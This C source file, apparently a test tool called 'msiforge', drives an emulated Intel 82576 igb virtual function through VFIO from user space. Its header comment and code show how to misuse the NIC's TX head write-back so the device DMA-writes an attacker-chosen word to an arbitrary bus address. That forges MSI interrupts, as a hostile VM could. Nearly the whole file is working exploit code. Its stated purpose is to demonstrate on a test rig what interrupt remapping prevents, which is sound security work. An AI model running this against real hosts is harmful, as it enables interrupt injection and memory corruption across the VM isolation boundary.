/*
 * msiforge GROUP BDF ADDR DATA: make an igb VF (Intel 82576, as QEMU emulates it) DMA-write
 * the 32-bit word DATA to bus address ADDR, from user space through VFIO type1, as a hostile
 * VM could. Used at ADDR in 0xFEE00000-0xFEEFFFFF this forges an MSI: it shows what interrupt
 * remapping buys (tests/rig/scenarios/msi_forgery.sh; facts in /work/shared/RIG.md, "MSI
 * forgery"). Built static for the test host.
 *
 * The write is igb's TX head write-back: TDWBAL/TDWBAH name the target; when the VF has
 * processed descriptors with RS set it writes its new head index there. Descriptors with DEXT
 * set and DTYP 0 are consumed without sending anything, so the head, hence the word, is
 * chosen: the ring starts at DATA - 1 and its tail is moved to DATA (DATA < 256 here).
 *
 * Steps: container + group + VFIO_SET_IOMMU (type1; the kernel refuses it without interrupt
 * remapping unless vfio_iommu_type1 allow_unsafe_interrupts=1), a 64 KiB DMA buffer mapped at
 * IOVA 0x100000 (the ring), memory + bus master on, the igbvf reset handshake (CTRL.RST, then
 * VF_RESET through the mailbox: the PF enables the VF's queues only then), queue 0 set up and
 * its tail moved. Exit 0 when the VF's head reached DATA (the write was issued), 1 when a
 * step failed (printed), 2 on bad arguments.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/vfio.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

/* igbvf registers (BAR0 of the VF; Linux drivers/net/ethernet/intel/igbvf). */
#define IGB_CTRL	0x0000
#define IGB_CTRL_RST	(1u << 26)
#define VMBMEM		0x0800		/* mailbox memory, 16 dwords */
#define V2PMAILBOX	0x0C40
#define MBX_REQ		0x01		/* VF -> PF: message sent */
#define MBX_ACK		0x02		/* VF -> PF: message received */
#define MBX_VFU		0x04		/* VF owns the buffer */
#define MBX_PFSTS	0x10		/* PF wrote a message (read to clear) */
#define MBX_PFACK	0x20		/* PF acked ours (read to clear) */
#define MBX_RSTI	0x40
#define MBX_RSTD	0x80		/* PF: reset done */
#define VF_RESET	0x01
#define MSG_ACK		0x80000000u
#define MSG_NACK	0x40000000u
#define TDBAL		0x3800
#define TDBAH		0x3804
#define TDLEN		0x3808
#define TDH		0x3810
#define TDT		0x3818
#define TXDCTL		0x3828
#define TXDCTL_EN	(1u << 25)
#define TDWBAL		0x3838
#define TDWBAH		0x383C

#define IOVA		0x100000ull
#define BUFSZ		0x10000
#define NDESC		256		/* TDLEN 4096 */

static int dev = -1;
static uint64_t bar0, cfg;
static uint32_t mbx_bits;		/* read-to-clear bits seen so far */

static int die(const char *what)
{
	fprintf(stderr, "msiforge: %s: %s\n", what, strerror(errno));
	return 1;
}

static uint32_t rd(uint32_t reg)
{
	uint32_t v = 0;

	if (pread(dev, &v, 4, (off_t)(bar0 + reg)) != 4)
		fprintf(stderr, "msiforge: read of BAR0+%#x failed: %s\n", reg, strerror(errno));
	return v;
}

static void wr(uint32_t reg, uint32_t v)
{
	if (pwrite(dev, &v, 4, (off_t)(bar0 + reg)) != 4)
		fprintf(stderr, "msiforge: write of BAR0+%#x failed: %s\n", reg, strerror(errno));
}

static void msleep(unsigned ms)
{
	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000 };

	nanosleep(&ts, NULL);
}

static uint32_t mbx(void)
{
	uint32_t v = rd(V2PMAILBOX);

	mbx_bits |= v & (MBX_PFSTS | MBX_PFACK | MBX_RSTI | MBX_RSTD);
	return v;
}

/* Waits up to ms for one of bits; consumes them. */
static int mbx_wait(uint32_t bits, unsigned ms)
{
	for (unsigned i = 0; i <= ms; i++) {
		mbx();
		if (mbx_bits & bits) {
			mbx_bits &= ~bits;
			return 0;
		}
		msleep(1);
	}
	return -1;
}

/* The igbvf reset: CTRL.RST, wait for the PF's reset-done, VF_RESET message, its reply. */
static int vf_reset(void)
{
	uint32_t reply;

	wr(IGB_CTRL, rd(IGB_CTRL) | IGB_CTRL_RST);
	msleep(10);
	if (mbx_wait(MBX_RSTD | MBX_RSTI, 1000) < 0)
		fprintf(stderr, "msiforge: no reset-done bit seen (V2PMAILBOX %#x); asking anyway\n",
			rd(V2PMAILBOX));
	mbx();
	mbx_bits = 0;		/* what the PF said before this message does not count */
	wr(V2PMAILBOX, MBX_VFU);
	if (!(mbx() & MBX_VFU)) {
		fprintf(stderr, "msiforge: cannot take the mailbox (V2PMAILBOX %#x)\n", mbx());
		return -1;
	}
	wr(VMBMEM, VF_RESET);
	wr(V2PMAILBOX, MBX_REQ);
	if (mbx_wait(MBX_PFACK, 1000) < 0) {
		fprintf(stderr, "msiforge: the PF did not ack VF_RESET (is the PF's netdev up?)\n");
		return -1;
	}
	if (mbx_wait(MBX_PFSTS, 1000) < 0)
		fprintf(stderr, "msiforge: no message bit from the PF; reading the buffer anyway\n");
	/* The reply replaces our message in the buffer; until it lands, the buffer still holds
	 * our VF_RESET without ACK/NACK (seen when a status bit was left from before). */
	for (int i = 0; i < 1000; i++) {
		reply = rd(VMBMEM);
		if (reply & (MSG_ACK | MSG_NACK))
			break;
		msleep(1);
	}
	wr(V2PMAILBOX, MBX_ACK);
	printf("msiforge: VF_RESET reply %#x\n", reply);
	/* ACK with the MAC address, or NACK when the PF has no MAC for the VF: either way
	 * the PF has reset the VF's queues and enabled its TX and RX (igb_vf_reset_msg). */
	if ((reply & 0xffff) != VF_RESET || !(reply & (MSG_ACK | MSG_NACK))) {
		fprintf(stderr, "msiforge: no VF_RESET reply from the PF (%#x)\n", reply);
		return -1;
	}
	return 0;
}

static int region(unsigned idx, uint64_t *off)
{
	struct vfio_region_info ri = { .argsz = sizeof(ri), .index = idx };

	if (ioctl(dev, VFIO_DEVICE_GET_REGION_INFO, &ri) < 0)
		return -1;
	*off = ri.offset;
	return 0;
}

int main(int argc, char **argv)
{
	struct vfio_group_status gs = { .argsz = sizeof(gs) };
	struct vfio_iommu_type1_dma_map map = { .argsz = sizeof(map) };
	char path[64], *end;
	unsigned long long addr;
	unsigned long data;
	uint32_t *ring;
	uint16_t cmd;
	void *buf;
	int container, group;
	uint32_t head;

	if (argc != 5) {
		fprintf(stderr, "usage: msiforge GROUP BDF ADDR DATA   (DATA 1..255)\n");
		return 2;
	}
	addr = strtoull(argv[3], &end, 0);
	if (*end || addr & 3) {
		fprintf(stderr, "msiforge: ADDR '%s': a 4-byte aligned bus address\n", argv[3]);
		return 2;
	}
	data = strtoul(argv[4], &end, 0);
	if (*end || data < 1 || data >= NDESC) {
		fprintf(stderr, "msiforge: DATA '%s': 1..%d (a TX head index)\n", argv[4], NDESC - 1);
		return 2;
	}
	if ((container = open("/dev/vfio/vfio", O_RDWR)) < 0)
		return die("/dev/vfio/vfio");
	snprintf(path, sizeof(path), "/dev/vfio/%s", argv[1]);
	if ((group = open(path, O_RDWR)) < 0)
		return die(path);
	if (ioctl(group, VFIO_GROUP_GET_STATUS, &gs) < 0 || !(gs.flags & VFIO_GROUP_FLAGS_VIABLE)) {
		fprintf(stderr, "msiforge: group %s is not viable\n", argv[1]);
		return 1;
	}
	if (ioctl(group, VFIO_GROUP_SET_CONTAINER, &container) < 0)
		return die("VFIO_GROUP_SET_CONTAINER");
	if (ioctl(container, VFIO_SET_IOMMU, VFIO_TYPE1_IOMMU) < 0)
		return die("VFIO_SET_IOMMU (type1)");
	if ((dev = ioctl(group, VFIO_GROUP_GET_DEVICE_FD, argv[2])) < 0)
		return die("VFIO_GROUP_GET_DEVICE_FD");
	if (region(VFIO_PCI_BAR0_REGION_INDEX, &bar0) < 0 ||
	    region(VFIO_PCI_CONFIG_REGION_INDEX, &cfg) < 0)
		return die("VFIO_DEVICE_GET_REGION_INFO");
	buf = mmap(NULL, BUFSZ, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (buf == MAP_FAILED)
		return die("mmap");
	memset(buf, 0, BUFSZ);
	map.vaddr = (uintptr_t)buf;
	map.iova = IOVA;
	map.size = BUFSZ;
	map.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE;
	if (ioctl(container, VFIO_IOMMU_MAP_DMA, &map) < 0)
		return die("VFIO_IOMMU_MAP_DMA");
	/* Memory space and bus master. */
	if (pread(dev, &cmd, 2, (off_t)(cfg + 4)) != 2)
		return die("config read");
	cmd |= 0x6;
	if (pwrite(dev, &cmd, 2, (off_t)(cfg + 4)) != 2)
		return die("config write");
	if (vf_reset() < 0)
		return 1;

	/* Every descriptor: buffer at IOVA+8 KiB, no length, DEXT + RS, DTYP 0. */
	ring = buf;
	for (int i = 0; i < NDESC; i++) {
		ring[i * 4 + 0] = (uint32_t)(IOVA + 0x2000);
		ring[i * 4 + 1] = 0;
		ring[i * 4 + 2] = (1u << 29) | (1u << 27);
		ring[i * 4 + 3] = 0;
	}
	wr(TXDCTL, 0);
	wr(TDBAL, (uint32_t)IOVA);
	wr(TDBAH, 0);
	wr(TDLEN, NDESC * 16);
	wr(TDH, (uint32_t)data - 1);
	wr(TDT, (uint32_t)data - 1);
	wr(TDWBAL, (uint32_t)addr | 1);		/* bit 0: head write-back on */
	wr(TDWBAH, (uint32_t)(addr >> 32));
	wr(TXDCTL, TXDCTL_EN);
	msleep(10);
	printf("msiforge: %s writes %#lx to %#llx (TX head write-back)\n", argv[2], data, addr);
	fflush(stdout);
	wr(TDT, (uint32_t)data);
	for (int i = 0; i < 500 && (head = rd(TDH)) != data; i++)
		msleep(1);
	head = rd(TDH);
	printf("msiforge: TX head %#x (TXDCTL %#x)\n", head, rd(TXDCTL));
	wr(TDWBAL, 0);
	wr(TXDCTL, 0);
	return head == data ? 0 : 1;
}
